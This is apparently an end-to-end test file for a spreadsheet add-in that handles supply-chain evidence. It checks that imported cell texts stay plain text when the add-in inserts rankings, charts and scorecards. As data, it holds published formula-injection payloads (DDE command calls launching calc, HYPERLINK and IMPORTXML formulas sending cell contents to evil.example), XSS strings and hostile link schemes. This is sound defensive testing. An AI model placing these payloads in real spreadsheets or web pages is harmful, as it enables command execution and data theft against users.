import type { Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openWorkbench, panelOf, type OpenWorkbench } from "./open-workbench.ts";
import { putEvidence } from "./put-evidence.ts";

/** Published ways to make a spreadsheet calculate, call or open what a cell says: OWASP's list for CSV, DDE, and what looks like them. */
const ATTACKS = [
  "=cmd|' /C calc'!A0",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=2+2",
  "\r=3+3",
  "\n=4+4",
  '=HYPERLINK("https://evil.example/?"&A1,"Annual report")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "＝7＋7", // full width: the same text as =7+7
  "'=1+1",
  '","=1+1","',
  '"),CHAIN.MODEL(),("',
  "<img src=x onerror=\"document.title='taken'\">",
  "<script>document.title='taken'</script>",
  "{{constructor.constructor('document.title=1')()}}",
];
const LINKS = ["javascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///c:/windows/system32/calc.exe", "vbscript:msgbox(1)", "ms-excel:ofe|u|https://evil.example/x.xlsm", "\\\\evil.example\\share", "https://bank.example@evil.example/", "=HYPERLINK(\"https://evil.example\")"];
const STAGES = ["Mining", "Concentration", "Separation", "Metal", "Alloy", "Magnet", "Customer"];

/** Each attack as a company with rows on all links; as its source, site, product, holder and note; with a link of another scheme. */
const evidence = [
  ["Company", "Stage", "Status", "Through", "Product", "Site", "Country", "Asserted by", "Source", "Link", "Note"],
  ...ATTACKS.flatMap((attack, place) => STAGES.map((stage, link) => [attack, stage, "Operating", attack, attack, attack, attack, "Company", attack, LINKS[(place + link) % LINKS.length]!, attack])),
];

describe("hostile texts in the evidence", () => {
  let opened: OpenWorkbench;
  let panel: Frame;
  beforeAll(async () => {
    opened = await openWorkbench();
    panel = await panelOf(opened.page);
    // The cells are texts, as an import of a file makes them: some would be formulas if they were typed.
    await putEvidence(opened, evidence.map((row, place) => (place === 0 ? row : row.map(() => "x"))));
    await opened.page.evaluate((rows) => {
      const value = Object.fromEntries(rows.map((row, y) => [y, Object.fromEntries(row.map((text, x) => [x, { v: text, t: 1, f: null }]))]));
      window.workbench.grid.setCells("many", value);
    }, evidence);
    await panel.getByRole("combobox", { name: "Company" }).waitFor();
    await panel.getByText("126 rows of the table Many").waitFor(); // 18 companies on 7 links
  });
  afterAll(() => opened?.close());

  const click = (role: "tab" | "button" | "option" | "combobox", name: string) => panel.getByRole(role, { name, exact: true }).dispatchEvent("click");
  const choose = async (field: string, option: string) => {
    await click("combobox", field);
    await click("option", option);
  };
  /** Every formula, every link and every text that the sheet that came last holds. */
  const lastSheet = () =>
    opened.page.evaluate(async () => {
      const { workbench } = window;
      await workbench.settle();
      const { sheets } = workbench.contents() as { sheets: readonly { cells: readonly { formula: string; link: string | null; value: unknown }[] }[] };
      const { cells } = sheets.at(-1)!;
      return {
        formulas: cells.flatMap(({ formula }) => (formula === "" ? [] : [formula])),
        links: cells.flatMap(({ link }) => (link === null ? [] : [link])),
        texts: cells.flatMap(({ value }) => (typeof value === "string" ? [value] : [])),
      };
    });
  /** A formula of the add-in's over the evidence, and all that is in it is a call of it, a text, or a cell of the chart's before it. */
  const isOurs = (formula: string) => /^=IF\(L\d+="","",HYPERLINK\(L\d+,"Open"\)\)$/.test(formula) || /^=(MAX\(0,|INDEX\()?(-?CHAIN\.[A-Z]+\(Many\[#All\](,("([^"]|"")*"|Model\[#All\])?)*\))+(,2,\d+|(-[BC]\d+)+)?\)?$/.test(formula);

  it.each(["Live formulas", "Values"])("stay texts in each insert as %s: no formula but the add-in's own, no link", async (mode) => {
    await click("tab", "Company");
    await choose("Insert as", mode);
    for (const insert of ["Insert ranking", "Insert heat map", "Insert chart"]) {
      await click("tab", "Compare");
      await click("button", insert);
      await panel.getByText(/^Inserted on the new sheet/).waitFor();
      const { formulas, links, texts } = await lastSheet();
      expect(formulas.filter((formula) => !isOurs(formula)), insert).toEqual([]);
      expect(mode === "Values" ? formulas : [], insert).toEqual([]);
      expect(links).toEqual([]);
      for (const attack of ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝7＋7"]) expect(texts, insert).toContain(attack);
      await click("tab", "Evidence"); // what was said is gone
    }
  });

  it.each([
    ["Live formulas", "gap table"],
    ["Live formulas", "scorecard"],
    ["Values", "evidence trail"],
  ])("stay texts, as %s, in the %s of each of these companies", async (mode, insert) => {
    await click("tab", "Company");
    await choose("Insert as", mode);
    for (let place = 0; place < ATTACKS.length; place++) {
      await click("tab", "Company"); // what was said before is gone
      await click("combobox", "Company");
      await panel.getByRole("option").nth(place).dispatchEvent("click");
      await click("button", `Insert ${insert}`);
      await panel.getByText(/^Inserted on the new sheet/).waitFor();
      const { formulas, links, texts } = await lastSheet();
      expect(formulas.filter((formula) => mode === "Values" || !isOurs(formula))).toEqual([]);
      expect(links).toEqual([]);
      expect(texts.length).toBeGreaterThan(10);
      await click("tab", "Evidence");
    }
  });

  it("are never markup, script or a link in the panel, and open nothing", async () => {
    await click("tab", "Company");
    for (const stage of STAGES) await panel.getByRole("button", { name: new RegExp(`^${stage}`) }).dispatchEvent("click");
    await panel.getByText("Select row").first().waitFor();
    expect(await panel.evaluate(() => [document.title, document.querySelectorAll("main img, main script, main a[href]:not([href=\"method.html\"], [href=\"help.html\"])").length])).toEqual(["Chain of Proof", 0]);
    expect(await panel.getByText("Open the source").count()).toBe(0);
    expect(await opened.page.evaluate(() => window.workbench.opened)).toEqual([]);
  });

  it("tell no console error, and send nothing beyond their own machine", () => {
    expect(opened.errors).toEqual([]);
    expect(opened.strayed).toEqual([]);
  });
});
